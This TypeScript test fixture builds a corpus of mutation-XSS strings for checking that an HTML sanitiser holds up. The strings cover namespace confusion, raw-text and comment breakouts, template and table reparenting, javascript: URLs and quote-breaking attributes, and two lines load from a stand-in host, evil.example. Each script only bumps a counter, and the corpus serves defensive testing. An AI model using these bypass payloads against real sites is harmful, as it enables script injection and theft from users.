// Markup that changes its meaning between the parser of a sanitiser and the next one: foreign namespaces, raw text,
// templates, comments, tables and forms that move nodes. Written for this project. Every script in it counts up
// `window.pwned` when it runs.
const RUN = 'window.pwned=(window.pwned||0)+1';
const IMAGE = `<img src=x onerror=${RUN}>`;

/** Elements whose content is text to the HTML parser, and nodes elsewhere. */
const RAW = ['style', 'script', 'title', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'plaintext'];
/** Where a foreign namespace begins, and where HTML begins again inside. */
const FOREIGN = [
  '<svg>',
  '<math>',
  '<svg><desc>',
  '<svg><title>',
  '<svg><foreignObject>',
  '<math><mtext>',
  '<math><annotation-xml encoding="text/html">',
  '<math><mtext><table><mglyph>',
  '<svg><p>',
  '<math><mi><svg>',
];
/** Tags that the sanitiser allows, as containers for the rest. */
const CARRIERS = ['<b>', '<p>', '<ul><li>', '<a href="https://example.org">', '<span><s><u>'];

const WRITTEN = [
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<svg><style>&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
  `<p title="</b>${IMAGE}">x</p>`,
  `<b title="--><script>${RUN}</script>">x</b>`,
  `<!--${IMAGE}--><b>x</b>`,
  `<!--><b>${IMAGE}-->`,
  `<!--!>${IMAGE}<!-->`,
  `<?xml ${IMAGE}?><b>x</b>`,
  `<![CDATA[${IMAGE}]]><i>x</i>`,
  `<template><b>${IMAGE}</b></template>`,
  `<template><template>${IMAGE}</template></template>`,
  `<div><template shadowrootmode=open>${IMAGE}</template></div>`,
  `<select><option><style></option></select>${IMAGE}</style>`,
  `<table><b>${IMAGE}<tr><td><i>x`,
  `<a href="https://example.org"><a href="javascript:${RUN}">x</a></a>`,
  `<a href="https://example.org"><table><a href="javascript:${RUN}">x`,
  `<p><svg><p><style><!--</style>${IMAGE}-->`,
  `<li><ul><li><math><li>${IMAGE}`,
  `<b><i></b><u></i>${IMAGE}`,
  `<p><p><p></p></p>${IMAGE}`,
  `<ol><p><li></ol>${IMAGE}</p>`,
  `<br/><br</br>${IMAGE}`,
  `<a href="https://example.org/?&quot;onclick=${RUN}&quot;">x</a>`,
  `<a href='https://example.org/"onclick="${RUN}'>x</a>`,
  `<a href="https://user:secret@example.org/">x</a>`,
  `<a href="https:javascript:${RUN}">x</a>`,
  `<a href="https://example.org" href="javascript:${RUN}">x</a>`,
  `<a HREF=\u0001javascript:${RUN}>x</a>`,
  `<a href="&#x6A;avascript&colon;${RUN}">x</a>`,
  `<a xlink:href="javascript:${RUN}">x</a>`,
  `<b is="live-chat" slot="header" part="row" id="chat" name="body" class="row">x</b>`,
  `<b onclick=${RUN} style="position:fixed;inset:0" tabindex=0 autofocus onfocus=${RUN}>x</b>`,
  `<span data-x=1 aria-label=x role=alert contenteditable popover>x</span>`,
  `<b>${'<i>'.repeat(600)}x`,
  `<img src=https://evil.example/x.png><b>x</b>`,
  `<b><image src=x onerror=${RUN}></b>`,
  `<s><script>${RUN}//</s></script>`,
  `<u><style>@import 'https://evil.example/';</u></style>`,
  `<p>\u0000<b\u0000>${IMAGE}`,
  `<custom-element><b>${IMAGE}</b></custom-element>`,
  `<math><annotation-xml encoding="text/html"><b>${IMAGE}</b></annotation-xml></math>`,
  `<b><dialog open>${IMAGE}</dialog></b>`,
];

export const MUTATION_TEXTS: readonly string[] = [
  ...WRITTEN,
  ...RAW.flatMap((raw) => [
    `<${raw}><p id="</${raw}>${IMAGE}">`,
    ...FOREIGN.map((foreign) => `${foreign}<${raw}>${IMAGE}</${raw}>`),
    ...FOREIGN.map((foreign) => `${foreign}<${raw}><!--</${raw}>${IMAGE}-->`),
  ]),
  ...CARRIERS.flatMap((carrier) =>
    FOREIGN.flatMap((foreign) => [
      `${carrier}${foreign}<style>${IMAGE}</style>`,
      `${foreign}${carrier}<style><a title="</style>${IMAGE}">`,
      `${carrier}${foreign}${carrier}${IMAGE}`,
    ]),
  ),
];
